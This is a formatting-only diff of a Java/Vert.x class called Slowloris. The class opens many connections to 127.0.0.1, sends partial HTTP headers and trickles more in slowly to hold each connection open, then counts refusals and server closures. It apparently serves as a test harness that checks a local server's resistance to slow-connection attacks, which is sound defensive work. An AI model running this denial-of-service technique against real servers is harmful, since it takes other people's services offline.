@@ -17,7 +17,8 @@ import java.util.concurrent.atomic.AtomicLong;
  */
 public final class Slowloris implements AutoCloseable {
 
-  private static final Buffer HEAD = Buffer.buffer("GET /products/1 HTTP/1.1\r\nHost: 127.0.0.1\r\n");
+  private static final Buffer HEAD =
+      Buffer.buffer("GET /products/1 HTTP/1.1\r\nHost: 127.0.0.1\r\n");
 
   private final Vertx vertx;
   private final NetClient client;
@@ -43,28 +44,33 @@ public final class Slowloris implements AutoCloseable {
     if (!running.get()) {
       return;
     }
-    client.connect(port, "127.0.0.1").onComplete(done -> {
-      if (done.failed()) {
-        refused.incrementAndGet();
-        vertx.setTimer(100, id -> connect());
-        return;
-      }
-      NetSocket socket = done.result();
-      open.incrementAndGet();
-      opened.incrementAndGet();
-      socket.write(HEAD);
-      long drip = vertx.setPeriodic(dripMillis, id -> socket.write(Buffer.buffer("X-Drip: x\r\n")));
-      socket.handler(ignored -> { });
-      socket.exceptionHandler(ignored -> { }); // a reset is the server doing its job
-      socket.closeHandler(v -> {
-        vertx.cancelTimer(drip);
-        open.decrementAndGet();
-        if (running.get()) {
-          closedByServer.incrementAndGet();
-          connect();
-        }
-      });
-    });
+    client
+        .connect(port, "127.0.0.1")
+        .onComplete(
+            done -> {
+              if (done.failed()) {
+                refused.incrementAndGet();
+                vertx.setTimer(100, id -> connect());
+                return;
+              }
+              NetSocket socket = done.result();
+              open.incrementAndGet();
+              opened.incrementAndGet();
+              socket.write(HEAD);
+              long drip =
+                  vertx.setPeriodic(dripMillis, id -> socket.write(Buffer.buffer("X-Drip: x\r\n")));
+              socket.handler(ignored -> {});
+              socket.exceptionHandler(ignored -> {}); // a reset is the server doing its job
+              socket.closeHandler(
+                  v -> {
+                    vertx.cancelTimer(drip);
+                    open.decrementAndGet();
+                    if (running.get()) {
+                      closedByServer.incrementAndGet();
+                      connect();
+                    }
+                  });
+            });
   }
 
   /** Connections held right now. */
@@ -90,7 +96,11 @@ public final class Slowloris implements AutoCloseable {
   public void close() {
     running.set(false);
     try {
-      vertx.close().toCompletionStage().toCompletableFuture().get(10, java.util.concurrent.TimeUnit.SECONDS);
+      vertx
+          .close()
+          .toCompletionStage()
+          .toCompletableFuture()
+          .get(10, java.util.concurrent.TimeUnit.SECONDS);
     } catch (Exception e) {
       throw new IllegalStateException("the attacker's Vert.x did not close within 10 s", e);
     }
